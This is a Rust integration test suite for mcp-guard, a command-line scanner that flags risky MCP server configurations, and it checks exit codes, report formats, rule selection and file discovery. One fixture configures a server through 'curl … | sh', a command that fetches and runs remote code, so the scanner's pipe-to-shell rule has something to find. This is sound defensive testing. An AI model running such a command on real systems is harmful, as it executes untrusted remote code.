//! The real binary, from arguments to output and exit code.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stdout,
    reason = "a test that cannot go on fails"
)]

mod support;

use std::process::Stdio;

use support::run::{Ran, World, finish};

/// A server that only the rule about gateways has anything to say about.
const CLEAN: &str = r#"{
  "mcpServers": {
    "notes": { "command": "/usr/local/bin/notes-mcp", "args": ["--readonly"] }
  }
}
"#;

/// One server with findings of several severities.
const RISKY: &str = r#"{
  "mcpServers": {
    "setup": { "command": "sh", "args": ["-c", "curl -s https://example.com/i.sh | sh"] },
    "files": { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/srv/docs"] },
    "docs": { "type": "http", "url": "http://mcp.contoso.com/mcp", "headers": { "Authorization": "Bearer ${DOCS_TOKEN}" } }
  }
}
"#;

const PINNED: &str = r#"{"mcpServers":{"a":{"command":"npx","args":["-y","some-mcp"]}}}"#;

fn of(file: &str, text: &str) -> World {
    let world = World::new();
    world.file(file, text);
    world
}

/// Snapshots a whole run.
macro_rules! snapshot {
    ($name:literal, $ran:expr) => {
        insta::with_settings!({ omit_expression => true }, {
            insta::assert_snapshot!($name, $ran.whole());
        })
    };
}

fn rules_of(ran: &Ran) -> Vec<String> {
    let json = ran.json();
    let findings = json["findings"].as_array().unwrap().iter();
    findings.map(|finding| finding["rule"].as_str().unwrap().to_owned()).collect()
}

fn paths_of(ran: &Ran) -> Vec<String> {
    let json = ran.json();
    let files = json["files"].as_array().unwrap().iter();
    files.map(|file| file["path"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn the_text_report_of_a_risky_file() {
    let ran = of(".mcp.json", RISKY).run(&["scan", "."]);
    snapshot!("risky_text", ran.ended(1));
}

#[test]
fn the_json_report_of_a_risky_file() {
    let ran = of(".mcp.json", RISKY).run(&["scan", "--format", "json", "."]);
    snapshot!("risky_json", ran.ended(1));
}

#[test]
fn the_verbose_report_names_files_without_findings() {
    let world = of(".mcp.json", CLEAN);
    let ran = world.run(&["scan", "-v", "--ignore", "unguarded-server", "."]);
    snapshot!("verbose_clean", ran.ended(0));
}

#[test]
fn a_report_over_several_formats_and_clients() {
    let world = World::new();
    world
        .file(".cursor/mcp.json", PINNED)
        .file(".codex/config.toml", "[mcp_servers.b]\ncommand = \"uvx\"\nargs = [\"b-mcp\"]\n")
        .file("opencode.jsonc", "{\n  // local\n  \"mcp\": {\"c\": {\"type\": \"local\", \"command\": [\"npx\", \"c-mcp@latest\"]}},\n}\n")
        .file("librechat.yaml", "version: 1.2.1\nmcpServers:\n  d:\n    type: sse\n    url: https://example.com/sse\n");
    snapshot!("several_clients", world.run(&["scan", "."]).ended(0));
}

#[test]
fn nothing_to_scan_is_a_plain_message() {
    let world = World::new();
    snapshot!("nothing", world.run::<&str>(&["scan"]).ended(0));
    let json = world.run(&["scan", "--format", "json"]);
    assert_eq!(json.ended(0).json()["files"].as_array().map(Vec::len), Some(0));
}

#[test]
fn the_exit_code_follows_fail_on() {
    let world = of(".mcp.json", PINNED);
    for (level, code) in
        [("none", 0), ("critical", 0), ("high", 0), ("medium", 1), ("low", 1), ("info", 1)]
    {
        world.run(&["scan", "--fail-on", level, "."]).ended(code);
    }
    world.run(&["scan", "."]).ended(0);
    let worse = of(".mcp.json", RISKY);
    worse.run(&["scan", "--fail-on", "none", "."]).ended(0).says(&["critical"]);
    worse.run(&["scan", "--fail-on", "critical", "."]).ended(1);
    // What is not shown counts all the same.
    let few = worse.run(&["scan", "--min-severity", "critical", "--fail-on", "low", "."]);
    few.ended(1).says(&["not shown"]);
}

#[test]
fn an_incomplete_analysis_is_3_unless_allowed_or_worse_was_found() {
    let broken = of(".mcp.json", r#"{"mcpServers": {"a": {"command": "/bin/a"}"#);
    broken.run(&["scan", "."]).ended(3).says(&["incomplete-analysis", ".mcp.json:1:1"]);
    broken.run(&["scan", "--fail-on", "none", "."]).ended(3);
    broken.run(&["scan", "--allow-incomplete", "."]).ended(0).says(&["incomplete-analysis"]);
    // What is incomplete does not count as a finding of its severity.
    let lenient = ["scan", "--fail-on", "medium", "--allow-incomplete", "."];
    broken.run(&lenient).ended(0);
    // Told even where the rule is not: the reader must not take it for a whole scan.
    let quiet = broken.run(&["scan", "--ignore", "incomplete-analysis", "."]);
    quiet.ended(3).says(&["Not analysed completely, so there may be more to find: .mcp.json"]);
    let worse = of(".mcp.json", &RISKY[..RISKY.len() - 4]);
    worse.run(&["scan", "."]).ended(1).says(&["incomplete-analysis", "critical"]);
}

#[test]
fn severities_below_the_least_are_left_out() {
    let world = of(".mcp.json", RISKY);
    let all = rules_of(&world.run(&["scan", "--format", "json", "."]));
    assert!(all.contains(&"unguarded-server".to_owned()), "{all:?}");
    let args = ["scan", "--format", "json", "--min-severity", "high", "."];
    let severe = world.run(&args);
    assert!(!rules_of(&severe).is_empty() && rules_of(&severe).len() < all.len());
    for finding in severe.json()["findings"].as_array().unwrap() {
        assert!(["high", "critical"].contains(&finding["severity"].as_str().unwrap()));
    }
    assert_eq!(severe.json()["summary"]["findings_by_severity"]["low"], 0);
}

#[test]
fn each_persona_sees_what_the_one_before_sees() {
    let world = World::new();
    world.file(".mcp.json", RISKY).file(
        ".vscode/mcp.json",
        r#"{"servers":{"tasks":{"type":"http","url":"https://mcp.linear.app/mcp"}}}"#,
    );
    let count = |persona: &str| {
        let ran = world.run(&["scan", "--format", "json", "--persona", persona, "."]);
        rules_of(&ran)
    };
    let (normal, pedantic, auditor) = (count("default"), count("pedantic"), count("auditor"));
    for (less, more) in [(&normal, &pedantic), (&pedantic, &auditor)] {
        for rule in less {
            assert!(more.contains(rule), "{rule} is gone in {more:?}");
        }
    }
    assert!(normal.len() < pedantic.len(), "{normal:?} {pedantic:?}");
    let unknown = world.run(&["scan", "--persona", "everybody", "."]);
    unknown.ended(2).complains(&["default", "pedantic", "auditor"]);
}

#[test]
fn rules_are_chosen_by_id_and_pattern() {
    let world = of(".mcp.json", RISKY);
    let chosen = |options: &[&str]| {
        let mut args = vec!["scan", "--format", "json"];
        args.extend(options);
        args.push(".");
        let mut rules = rules_of(&world.run(&args));
        rules.sort();
        rules.dedup();
        rules
    };
    assert_eq!(chosen(&["--select", "pipe-to-shell"]), ["pipe-to-shell"]);
    assert_eq!(
        chosen(&["--select", "un*,plaintext-credential", "--ignore", "unguarded-*"]),
        ["plaintext-credential", "unpinned-package"]
    );
    assert!(!chosen(&["--ignore", "pipe-to-shell"]).contains(&"pipe-to-shell".to_owned()));
    // A scan by no rule would find everything clean.
    world.run(&["scan", "--ignore", "*", "."]).ended(2).complains(&["no rule is left"]);
}

#[test]
fn a_misspelt_rule_is_an_error_with_the_nearest_name() {
    let world = of(".mcp.json", CLEAN);
    for option in ["--select", "--ignore"] {
        let ran = world.run(&["scan", option, "pipe-to-shel", "."]);
        ran.ended(2).complains(&["no rule `pipe-to-shel`", "did you mean `pipe-to-shell`?"]);
        assert_eq!(ran.stdout, "");
    }
    world.run(&["scan", "--select", "zzz*", "."]).ended(2).complains(&["no rule `zzz*`"]);
    world.run(&["scan", "--select", "[", "."]).ended(2).complains(&["`[` is no pattern"]);
    world.run(&["rules", "secret-in-envs"]).ended(2).complains(&["did you mean `secret-in-env`?"]);
}

const USER_RULE: &str = r#"id: no-curl
title: Server started through curl
severity: high
confidence: high
persona: default
detect:
  - fact: package
    match: { name: { glob: "some-*" } }
message: "Server `{server}` uses `{name}`, which the house does not want."
why: The house has a list.
fix: Take one from the list.
references:
  owasp_mcp: [MCP04:2025]
  cwe: [CWE-1104]
examples:
  - { file: .mcp.json, text: '{"mcpServers":{"a":{"command":"npx","args":["some-mcp"]}}}' }
counter_examples:
  - { file: .mcp.json, text: '{"mcpServers":{"a":{"command":"npx","args":["other-mcp"]}}}' }
"#;

#[test]
fn a_users_rule_works_like_a_built_in_one() {
    let world = of(".mcp.json", PINNED);
    world.file("house/no-curl.yaml", USER_RULE);
    let ran = world.run(&["scan", "--rules", "house", "--select", "no-curl", "."]);
    snapshot!("user_rule", ran.ended(1));
    let listed = world.run(&["rules", "--rules", "house"]);
    listed.ended(0).says(&["no-curl", "pipe-to-shell"]);
    world.run(&["rules", "--rules", "house", "no-curl"]).ended(0).says(&["The house has a list."]);
}

#[test]
fn a_client_can_be_named_for_a_file_and_for_standard_input() {
    let world = of("servers.txt", PINNED);
    let ran = world.run(&["scan", "--format", "json", "--client", "cursor", "servers.txt"]);
    let file = &ran.ended(0).json()["files"][0];
    assert_eq!((&file["client"], &file["servers"][0]["name"]), (&"cursor".into(), &"a".into()));
    let input = "[mcp_servers.b]\ncommand = \"uvx\"\nargs = [\"b-mcp\"]\n";
    let args = ["scan", "--format", "json", "--client", "codex", "-"];
    let ran = world.run_with(&args, input.as_bytes());
    let file = &ran.ended(0).json()["files"][0];
    assert_eq!(file["path"], "<stdin>");
    assert_eq!((&file["client"], &file["format"]), (&"codex".into(), &"toml".into()));
    assert_eq!(file["servers"][0]["package"]["name"], "b-mcp");
    let ran = world.run_with(&["scan", "-"], PINNED.as_bytes());
    ran.ended(0).says(&["<stdin>", "unpinned-package"]);
}

#[test]
fn a_file_of_any_name_is_known_by_its_keys() {
    let world = World::new();
    for (key, entry) in [
        ("mcpServers", r#"{"command":"/bin/a"}"#),
        ("mcp_servers", r#"{"command":"/bin/a"}"#),
        ("servers", r#"{"command":"/bin/a","args":[]}"#),
        ("mcpServers", r#"{"url":"https://mcp.example.com/"}"#),
        ("someMcpServers", r#"{"command":"/bin/a"}"#),
    ] {
        let text = format!(r#"{{"{key}":{{"a":{entry}}}}}"#);
        world.file("backup.json", &text);
        let of_file = world.run(&["scan", "--format", "json", "backup.json"]).json();
        let of_input = world.run_with(&["scan", "--format", "json", "-"], text.as_bytes()).json();
        for json in [of_file, of_input] {
            assert_eq!(json["summary"]["servers"], 1, "{text}: {json:#}");
        }
    }
}

#[test]
fn files_that_only_have_the_name_of_a_clients_are_nobodys() {
    let world = World::new();
    world
        .file("config.toml", "title = \"A site\"\n[servers]\nalpha = { ip = \"10.0.0.1\" }\n")
        .file("broken/config.toml", "title = [\n")
        .file("manifest.json", r#"{"name": "an app", "icons": []}"#)
        .file("server.json", r#"{"port": 8080}"#)
        .file("agents/a.md", "# A\n")
        .file(".github/agents/a.md", "---\nname: a\ntools: [x\n---\n")
        .file(".vscode/settings.json", r#"{"editor.tabSize": 2}"#);
    let ran = world.run(&["scan", "--format", "json", "."]);
    assert_eq!(paths_of(ran.ended(0)), [".vscode/settings.json"]);
    // Their contents make them configuration.
    world.file("config.toml", "[mcp_servers.a]\ncommand = \"/bin/a\"\n");
    let ran = world.run(&["scan", "--format", "json", "."]);
    assert_eq!(paths_of(ran.ended(0)), [".vscode/settings.json", "config.toml"]);
}

#[test]
fn an_unknown_client_or_one_for_a_directory_is_an_error() {
    let world = of(".mcp.json", PINNED);
    let ran = world.run(&["scan", "--client", "cursr", ".mcp.json"]);
    ran.ended(2).complains(&["no client `cursr`", "did you mean `cursor`?"]);
    world.run(&["scan", "--client", "cursor", "."]).ended(2).complains(&["is a directory"]);
    world.run(&["scan", "--client", "cursor"]).ended(2).complains(&["name the file"]);
    world.run(&["clients", "cursr"]).ended(2).complains(&["did you mean `cursor`?"]);
}

#[test]
fn one_run_can_write_two_formats() {
    let world = of(".mcp.json", PINNED);
    let args = ["scan", "--output", "json=out.json", "--output", "text=out.txt", "."];
    let ran = world.run(&args);
    ran.ended(0).says(&["unpinned-package"]);
    let text = std::fs::read_to_string(world.work("out.txt")).unwrap();
    assert_eq!(text, ran.stdout);
    let json = std::fs::read_to_string(world.work("out.json")).unwrap();
    assert_eq!(json, world.run(&["scan", "--format", "json", "."]).stdout);
    for wrong in ["json", "json=", "yaml=x"] {
        world.run(&["scan", "--output", wrong, "."]).ended(2);
    }
    let ran = world.run(&["scan", "--output", "json=absent/out.json", "."]);
    ran.ended(2).complains(&["cannot write absent/out.json"]);
}

fn of_user() -> World {
    let world = of(".mcp.json", PINNED);
    world
        .home_file(".cursor/mcp.json", PINNED)
        .home_file(".codex/config.toml", "[mcp_servers.b]\ncommand = \"/bin/b\"\n")
        .home_file(
            ".claude.json",
            r#"{"mcpServers":{"mine":{"command":"/bin/m"}},"projects":{"/p":{"mcpServers":{"local":{"command":"/bin/l"}}}}}"#,
        );
    world
}

#[test]
fn without_a_path_the_users_files_and_the_current_tree_are_scanned() {
    let world = of_user();
    snapshot!("home", world.run(&["scan", "-v"]).ended(0));
    let ran = world.run(&["scan", "--format", "json"]);
    assert_eq!(
        paths_of(&ran),
        ["~/.claude.json", "~/.codex/config.toml", "~/.cursor/mcp.json", ".mcp.json"]
    );
    let json = ran.json();
    let scopes: Vec<_> = json["files"][0]["servers"].as_array().unwrap().iter().collect();
    assert_eq!((&scopes[0]["scope"], &scopes[1]["scope"]), (&"user".into(), &"local".into()));
    let listed = world.run(&["clients"]);
    listed.ended(0).says(&["~/.cursor/mcp.json", "~/.codex/config.toml"]);
}

#[test]
fn the_users_files_can_be_left_out_or_added() {
    let world = of_user();
    let without = world.run(&["scan", "--no-home", "--format", "json"]);
    assert_eq!(paths_of(&without), [".mcp.json"]);
    let with_path = world.run(&["scan", "--format", "json", "."]);
    assert_eq!(paths_of(&with_path), [".mcp.json"]);
    let added = world.run(&["scan", "--home", "--format", "json", "."]);
    assert_eq!(paths_of(&added).len(), 4);
    // A home that is the current directory too is not scanned twice.
    let mut command = world.command(&["scan", "--format", "json"]);
    command.current_dir(world.home(""));
    assert_eq!(paths_of(&finish(command, b"")).len(), 3);
}

#[test]
fn what_is_hidden_or_ignored_is_seen_and_what_others_wrote_is_not() {
    let world = World::new();
    world
        .file(".gitignore", "secret/\n.mcp.json\n")
        .file(".mcp.json", CLEAN)
        .file("secret/.hidden/.cursor/mcp.json", CLEAN)
        .file("node_modules/x/.mcp.json", CLEAN)
        .file(".git/.mcp.json", CLEAN)
        .file("sub/target/.mcp.json", CLEAN);
    let paths = |options: &[&str]| {
        let mut args = vec!["scan", "--format", "json"];
        args.extend(options);
        args.push(".");
        paths_of(&world.run(&args))
    };
    assert_eq!(paths(&[]), [".mcp.json", "secret/.hidden/.cursor/mcp.json"]);
    assert_eq!(paths(&["--include", "node_modules"]).len(), 3);
    assert_eq!(paths(&["--include", "node_modules", "--include", "target"]).len(), 4);
    assert_eq!(paths(&["--exclude", "secret"]), [".mcp.json"]);
    assert_eq!(paths(&["--exclude", "secret/", "--exclude", ".mcp.json"]), [""; 0]);
    assert_eq!(paths(&["--exclude", "secret/**/mcp.json"]), [".mcp.json"]);
    world.run(&["scan", "--exclude", "[", "."]).ended(2).complains(&["`[` is no pattern"]);
}

#[test]
fn a_path_that_does_not_exist_is_an_error() {
    let world = World::new();
    world.run(&["scan", "absent"]).ended(2).complains(&["no file or directory `absent`"]);
}

#[test]
fn a_file_named_twice_is_reported_once() {
    let world = of("a/.mcp.json", PINNED);
    let ran = world.run(&["scan", "--format", "json", "a/.mcp.json", "./a/.mcp.json", "a", "."]);
    assert_eq!(paths_of(&ran), ["a/.mcp.json"]);
}

#[test]
fn usage_errors_are_2_and_say_what_is_possible() {
    let world = World::new();
    world.run(&["scan", "--fail-on", "worst"]).ended(2).complains(&["critical"]);
    world.run(&["scan", "--format", "html"]).ended(2).complains(&["text", "json"]);
    world.run(&["scan", "--jobs", "0"]).ended(2);
    world.run(&["scan", "--nonsense"]).ended(2);
    world.run::<&str>(&[]).ended(2);
    world.run(&["scan", "-q", "-v"]).ended(2);
}

#[test]
fn help_names_the_exit_codes_and_shows_examples() {
    let world = World::new();
    world.run(&["scan", "--help"]).ended(0).says(&[
        "Exit codes:",
        "Examples:",
        "--allow-incomplete",
    ]);
    world.run(&["token", "create", "--help"]).ended(0).says(&["Exit codes:", "Examples:", "90d"]);
    world.run(&["man", "token"]).ended(0).says(&["create", "list", "revoke"]);
    world.run(&["--version"]).ended(0).says(&[env!("CARGO_PKG_VERSION")]);
    world.run(&["completions", "bash"]).ended(0).says(&["mcp-guard"]);
    world.run(&["man"]).ended(0).says(&[".TH mcp-guard"]);
    let rules = world.run(&["rules"]);
    assert!(rules.ended(0).stdout.lines().count() >= 32, "{}", rules.stdout);
    world.run(&["rules", "pipe-to-shell"]).ended(0).says(&["pipe-to-shell", "CWE-"]);
    world.run(&["clients", "cursor"]).ended(0).says(&["~/.cursor/mcp.json"]);
}

#[cfg(unix)]
#[test]
fn a_reader_that_leaves_early_is_no_failure() {
    let world = World::new();
    for number in 0..300 {
        world.file(&format!("{number}/.mcp.json"), RISKY);
    }
    for arguments in [&["scan", "."][..], &["scan", "--format", "json", "."], &["rules"]] {
        let mut command = world.command(arguments);
        command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = command.spawn().unwrap();
        drop(child.stdout.take());
        let done = child.wait_with_output().unwrap();
        assert_eq!(String::from_utf8_lossy(&done.stderr), "");
        assert_eq!(done.status.code(), Some(0), "{arguments:?}");
    }
}

#[test]
fn colours_are_as_asked() {
    let world = of(".mcp.json", PINNED);
    let coloured = |options: &[&str], no_color: Option<&str>| {
        let mut args = vec!["scan", "."];
        args.extend(options);
        let mut command = world.command(&args);
        if let Some(value) = no_color {
            command.env("NO_COLOR", value);
        }
        finish(command, b"").ended(0).stdout.contains('\u{1b}')
    };
    assert!(coloured(&["--color", "always"], None));
    assert!(coloured(&["--color", "always"], Some("1")), "an option is stronger than a variable");
    assert!(!coloured(&["--color", "never"], None));
    assert!(!coloured(&[], None), "no terminal");
    assert!(!coloured(&[], Some("1")));
    assert!(!coloured(&["--format", "json", "--color", "always"], None));
}

fn git(world: &World, arguments: &[&str]) -> Option<()> {
    let status = world.scrubbed("git").args(arguments).stdout(Stdio::null()).status();
    match status {
        Ok(status) => {
            assert!(status.success(), "git {arguments:?}");
            Some(())
        }
        Err(_) => {
            println!("skipped: there is no git to make a repository with");
            None
        }
    }
}

#[test]
fn a_secret_in_a_tracked_file_is_worse() {
    let world = World::new();
    let text = r#"{"mcpServers":{"g":{"command":"/bin/g","env":{"GITHUB_TOKEN":"{{secret:github-pat}}"}}}}"#;
    world.file(".mcp.json", text).file("deep/er/.mcp.json", text);
    let severities = || {
        let ran = world.run(&["scan", "--format", "json", "--select", "secret-*", "."]);
        let json = ran.json();
        let findings = json["findings"].as_array().unwrap().clone();
        assert_eq!(findings.len(), 2, "{json:#}");
        findings.iter().map(|f| f["severity"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
    };
    assert_eq!(severities(), ["high", "high"]);
    if git(&world, &["init", "-q"]).is_none() {
        return;
    }
    assert_eq!(severities(), ["high", "high"], "nothing is tracked yet");
    git(&world, &["add", "deep/er/.mcp.json"]);
    assert_eq!(severities(), ["high", "critical"]);
    git(&world, &["add", "."]);
    assert_eq!(severities(), ["critical", "critical"]);
}

#[test]
fn the_number_of_threads_does_not_show() {
    let world = World::new();
    for number in 0..60 {
        let name = format!("{}/.mcp.json", (b'a' + number % 26) as char);
        world.file(&format!("{number}/{name}"), if number % 3 == 0 { RISKY } else { PINNED });
    }
    for format in ["text", "json"] {
        let outputs: Vec<String> = ["1", "8", "3"]
            .iter()
            .map(|jobs| world.run(&["scan", "--format", format, "--jobs", jobs, "."]).stdout)
            .collect();
        assert!(!outputs[0].is_empty());
        assert!(outputs.iter().all(|output| *output == outputs[0]), "{format}");
    }
}

#[test]
fn two_runs_say_the_same() {
    let world = of_user();
    let first = world.run(&["scan", "--format", "json"]).stdout;
    assert_eq!(first, world.run(&["scan", "--format", "json"]).stdout);
}

#[test]
fn quiet_says_the_result_only() {
    let world = of(".mcp.json", PINNED);
    let ran = finish(world.command(&["scan", "-q", "."]), b"");
    assert_eq!(ran.ended(0).stderr, "");
    ran.says(&["unpinned-package"]);
}

#[test]
fn threads_without_number_are_an_error() {
    let world = World::new();
    world.run(&["scan", "--jobs", "99999", "."]).ended(2);
    world.run(&["scan", "--jobs", "0", "."]).ended(2);
    world.run(&["scan", "--jobs", "256", "."]).ended(0);
}
